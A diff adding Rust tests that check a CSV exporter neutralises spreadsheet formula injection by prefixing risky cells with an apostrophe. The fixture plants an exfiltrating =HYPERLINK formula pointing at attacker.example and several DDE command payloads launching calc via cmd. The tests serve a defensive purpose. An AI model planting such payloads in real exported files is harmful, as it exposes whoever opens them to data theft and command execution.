@@ -147,3 +147,98 @@ fn json_ld_describes_events_and_quotations() {
     assert_eq!(cart["creator"]["name"], "The Kremlin");
     assert_eq!(cart["isBasedOn"]["datePublished"], "2025-07-27");
 }
+
+/// The real dataset with a hostile quote, title and place name planted (issue 12, finding 7).
+fn with_formulas() -> Dataset {
+    let mut ds = real();
+    ds.statements[0].quote = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Read more\")".into();
+    ds.statements[1].quote = "+cmd|' /C calc'!A0".into();
+    ds.events[0].title = "-2+3+cmd|' /C calc'!A0".into();
+    ds.events[0].summary = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    ds.events[1].title = "\tleading tab".into();
+    ds.events[1].summary = "\rleading return".into();
+    ds
+}
+
+fn csv_rows(text: &str) -> (csv::StringRecord, Vec<csv::StringRecord>) {
+    let mut r = csv::Reader::from_reader(text.as_bytes());
+    let headers = r.headers().unwrap().clone();
+    (headers, r.records().map(Result::unwrap).collect())
+}
+
+fn column(headers: &csv::StringRecord, name: &str) -> usize {
+    headers.iter().position(|h| h == name).unwrap()
+}
+
+#[test]
+fn a_quote_that_is_a_formula_is_text_in_csv_and_verbatim_in_json() {
+    let ds = with_formulas();
+    let (headers, rows) = csv_rows(&export::statements_csv(&ds));
+    let quote = column(&headers, "quote");
+    assert_eq!(
+        &rows[0][quote],
+        "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Read more\")"
+    );
+    assert_eq!(&rows[1][quote], "'+cmd|' /C calc'!A0");
+    let v = export::to_json(&ds);
+    assert_eq!(v["statements"][0]["quote"], ds.statements[0].quote);
+    assert_eq!(v["statements"][1]["quote"], ds.statements[1].quote);
+}
+
+#[test]
+fn every_text_cell_starting_like_a_formula_gets_a_leading_apostrophe() {
+    let ds = with_formulas();
+    let (headers, rows) = csv_rows(&export::events_csv(&ds));
+    let (title, summary) = (column(&headers, "title"), column(&headers, "summary"));
+    assert_eq!(&rows[0][title], "'-2+3+cmd|' /C calc'!A0");
+    assert_eq!(&rows[0][summary], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(&rows[1][title], "'\tleading tab");
+    assert_eq!(&rows[1][summary], "'\rleading return");
+    let v = export::to_json(&ds);
+    assert_eq!(v["events"][0]["title"], ds.events[0].title);
+    assert_eq!(v["events"][1]["summary"], ds.events[1].summary);
+}
+
+#[test]
+fn no_csv_cell_of_text_can_start_a_formula() {
+    let ds = with_formulas();
+    for text in [export::events_csv(&ds), export::statements_csv(&ds)] {
+        let (headers, rows) = csv_rows(&text);
+        for row in &rows {
+            for (value, name) in row.iter().zip(&headers) {
+                if name != "lat" && name != "lon" {
+                    assert!(
+                        !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{name}: {value:?}"
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn coordinates_west_or_south_stay_negative_numbers_in_csv() {
+    let mut ds = real();
+    let row = ds
+        .events
+        .iter()
+        .position(|e| e.place.is_some())
+        .expect("some event has a place");
+    let place = ds.events[row].place.clone().unwrap();
+    let p = ds.places.iter_mut().find(|p| p.id == place).unwrap();
+    p.lat = -33.87;
+    p.lon = -77.04;
+    let (headers, rows) = csv_rows(&export::events_csv(&ds));
+    assert_eq!(&rows[row][column(&headers, "lat")], "-33.87");
+    assert_eq!(&rows[row][column(&headers, "lon")], "-77.04");
+}
+
+#[test]
+fn ordinary_text_is_not_touched() {
+    assert_eq!(export::cell("Istanbul talks"), "Istanbul talks");
+    assert_eq!(export::cell("“=” in quotes"), "“=” in quotes");
+    assert_eq!(export::cell("a=b"), "a=b");
+    assert_eq!(export::cell(""), "");
+    assert_eq!(export::cell("=1"), "'=1");
+}
